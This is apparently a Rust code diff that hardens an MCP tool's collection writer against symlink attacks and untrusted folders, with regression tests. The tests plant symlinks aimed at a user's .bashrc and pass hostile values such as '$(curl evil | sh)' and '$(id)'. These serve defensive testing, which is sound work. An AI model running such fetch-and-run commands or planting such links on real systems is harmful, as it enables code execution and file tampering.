@@ -29,6 +29,12 @@ pub struct CollectionView {
 pub struct Shelf {
     pub project: PathBuf,
     pub private: PathBuf,
+    /// The project folder itself: the project's collections are written only inside it.
+    pub folder: PathBuf,
+    /// The data folder: private collections are written only inside it.
+    pub data_dir: PathBuf,
+    /// Whether the person trusts the project folder; its collections are written only then.
+    pub trusted: bool,
 }
 
 /// A case just added.
@@ -42,11 +48,30 @@ pub struct AddedCase {
 }
 
 impl Shelf {
-    pub fn new(project: &Path, data_dir: &Path) -> Shelf {
+    /// The shelf of `project`; `trusted` says whether the person trusts that folder.
+    pub fn new(project: &Path, data_dir: &Path, trusted: bool) -> Shelf {
         Shelf {
             project: project.join(model::PROJECT_FOLDER),
             private: data_dir.join(model::PRIVATE_FOLDER),
+            folder: project.to_path_buf(),
+            data_dir: data_dir.to_path_buf(),
+            trusted,
         }
+    }
+
+    /// Writes `file` to `path`: a project's collection only in a trusted folder, and never
+    /// outside the project (or the data folder, for a private one).
+    fn save(&self, file: &Collection, path: &Path) -> Result<(), CollectionError> {
+        model::may_write(path, &self.folder, self.trusted)?;
+        let shared = path.starts_with(&self.folder);
+        let root = if shared { &self.folder } else { &self.data_dir };
+        if !root.exists() {
+            mcp_manager_core::private::dir(root).map_err(|err| CollectionError::Unwritable {
+                path: path.display().to_string(),
+                reason: err.to_string(),
+            })?;
+        }
+        file.save(path, root, !shared)
     }
 
     /// Every collection, the project's first, each by name.
@@ -58,7 +83,7 @@ impl Shelf {
                     .file_stem()
                     .map(|s| s.to_string_lossy().into_owned())
                     .unwrap_or_default();
-                let (cases, problem) = match Collection::load(&path) {
+                let (cases, problem) = match Collection::load(&path, &self.folder) {
                     Ok(collection) => (collection.cases, None),
                     Err(err) => (Vec::new(), Some(err.to_string())),
                 };
@@ -107,9 +132,9 @@ impl Shelf {
         }
     }
 
-    fn open(path: &Path) -> Result<Collection, CollectionError> {
+    fn open(&self, path: &Path) -> Result<Collection, CollectionError> {
         if path.exists() {
-            Collection::load(path)
+            Collection::load(path, &self.folder)
         } else {
             Ok(Collection::default())
         }
@@ -129,7 +154,7 @@ impl Shelf {
         result: Result<&Value, &str>,
     ) -> Result<AddedCase, CollectionError> {
         let path = self.file(collection, shared)?;
-        let mut file = Self::open(&path)?;
+        let mut file = self.open(&path)?;
         let name = case_name
             .map(str::trim)
             .filter(|n| !n.is_empty())
@@ -138,7 +163,7 @@ impl Shelf {
         let (case, variables) =
             crate::case_from_call(&name, server, tool, arguments, input_schema, result);
         file.put(case);
-        file.save(&path)?;
+        self.save(&file, &path)?;
         Ok(AddedCase {
             path: path.display().to_string(),
             name,
@@ -167,7 +192,7 @@ impl Shelf {
         change: impl FnOnce(&mut Case),
     ) -> Result<(), CollectionError> {
         let path = self.held(path)?;
-        let mut file = Collection::load(&path)?;
+        let mut file = Collection::load(&path, &self.folder)?;
         let Some(case) = file.cases.iter_mut().find(|c| c.name == name) else {
             return Err(CollectionError::Invalid(format!(
                 "{} has no case \"{name}\"",
@@ -175,15 +200,15 @@ impl Shelf {
             )));
         };
         change(case);
-        file.save(&path)
+        self.save(&file, &path)
     }
 
     /// Removes case `name`.
     pub fn remove(&self, path: &str, name: &str) -> Result<(), CollectionError> {
         let path = self.held(path)?;
-        let mut file = Collection::load(&path)?;
+        let mut file = Collection::load(&path, &self.folder)?;
         file.cases.retain(|c| c.name != name);
-        file.save(&path)
+        self.save(&file, &path)
     }
 }
 
@@ -195,7 +220,8 @@ mod tests {
     #[test]
     fn add_edit_accept_remove_and_nothing_outside_the_shelf() {
         let dir = tempfile::tempdir().unwrap();
-        let shelf = Shelf::new(&dir.path().join("p"), &dir.path().join("data"));
+        std::fs::create_dir(dir.path().join("p")).unwrap();
+        let shelf = Shelf::new(&dir.path().join("p"), &dir.path().join("data"), true);
         let args = json!({"a": 1}).as_object().unwrap().clone();
         let result = json!({"content": [{"type": "text", "text": "1"}]});
         let added = shelf
@@ -250,12 +276,12 @@ mod tests {
         shelf
             .accept(&added.path, "t 2", r#"{"content": []}"#)
             .unwrap();
-        let smoke = Collection::load(Path::new(&added.path)).unwrap();
+        let smoke = Collection::load(Path::new(&added.path), &shelf.folder).unwrap();
         assert_eq!(smoke.cases[0].expect.text_contains, vec!["1"]);
         assert_eq!(smoke.cases[1].expect.snapshot, Some(json!({"content": []})));
         shelf.remove(&added.path, "t").unwrap();
         assert_eq!(
-            Collection::load(Path::new(&added.path))
+            Collection::load(Path::new(&added.path), &shelf.folder)
                 .unwrap()
                 .cases
                 .len(),
@@ -274,5 +300,94 @@ mod tests {
         assert!(shelf.file("../up", true).is_err());
         assert!(shelf.file(".hidden", true).is_err());
         assert!(shelf.file("a/b", true).is_err());
+    }
+
+    /// The attack of the review: a repository commits `.mcp-collections/smoke.json.tmp ->
+    /// ~/.bashrc` (and links at the other names a write once used); adding a call to "smoke"
+    /// must leave the person's file alone.
+    #[test]
+    fn a_committed_link_at_a_temporary_name_does_not_replace_the_persons_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let bashrc = dir.path().join(".bashrc");
+        std::fs::write(&bashrc, "export PATH=$HOME/bin:$PATH\n").unwrap();
+        let project = dir.path().join("repo");
+        let folder = project.join(model::PROJECT_FOLDER);
+        std::fs::create_dir_all(&folder).unwrap();
+        for planted in ["smoke.json.tmp", ".smoke.json.tmp", "smoke.tmp"] {
+            std::os::unix::fs::symlink("../../.bashrc", folder.join(planted)).unwrap();
+        }
+        let shelf = Shelf::new(&project, &dir.path().join("data"), true);
+        let args = json!({"a": "$(curl evil | sh)"})
+            .as_object()
+            .unwrap()
+            .clone();
+        shelf
+            .add_call(
+                "smoke",
+                true,
+                Some("$(id)"),
+                "s",
+                "t",
+                &args,
+                &Value::Null,
+                Err("x"),
+            )
+            .unwrap();
+        assert_eq!(
+            std::fs::read_to_string(&bashrc).unwrap(),
+            "export PATH=$HOME/bin:$PATH\n"
+        );
+        assert!(Collection::load(&folder.join("smoke.json"), &project).is_ok());
+    }
+
+    #[test]
+    fn a_collection_file_or_folder_linking_out_of_the_project_is_not_written() {
+        let dir = tempfile::tempdir().unwrap();
+        let outside = dir.path().join("config");
+        std::fs::create_dir(&outside).unwrap();
+        std::fs::write(outside.join("victim.json"), "mine").unwrap();
+        let project = dir.path().join("repo");
+        let folder = project.join(model::PROJECT_FOLDER);
+        std::fs::create_dir_all(&folder).unwrap();
+        std::os::unix::fs::symlink(outside.join("victim.json"), folder.join("smoke.json")).unwrap();
+        let shelf = Shelf::new(&project, &dir.path().join("data"), true);
+        let args = Map::new();
+        let err = shelf
+            .add_call("smoke", true, None, "s", "t", &args, &Value::Null, Err("x"))
+            .unwrap_err();
+        assert!(err.to_string().contains("leads out of"), "{err}");
+        assert_eq!(
+            std::fs::read_to_string(outside.join("victim.json")).unwrap(),
+            "mine"
+        );
+        // The whole folder a link out of the project.
+        std::fs::remove_dir_all(&folder).unwrap();
+        std::os::unix::fs::symlink(&outside, &folder).unwrap();
+        let err = shelf
+            .add_call("other", true, None, "s", "t", &args, &Value::Null, Err("x"))
+            .unwrap_err();
+        assert!(err.to_string().contains("leads out of"), "{err}");
+        assert!(!outside.join("other.json").exists());
+    }
+
+    #[test]
+    fn an_untrusted_folder_s_collections_are_not_written() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join("repo");
+        std::fs::create_dir_all(&project).unwrap();
+        let shelf = Shelf::new(&project, &dir.path().join("data"), false);
+        let args = Map::new();
+        let err = shelf
+            .add_call("smoke", true, None, "s", "t", &args, &Value::Null, Err("x"))
+            .unwrap_err();
+        assert!(err.to_string().contains("not trusted"), "{err}");
+        assert!(!project.join(model::PROJECT_FOLDER).exists());
+        // A private collection is the person's own: written, 0600.
+        let added = shelf
+            .add_call("mine", false, None, "s", "t", &args, &Value::Null, Err("x"))
+            .unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(&added.path).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
     }
 }
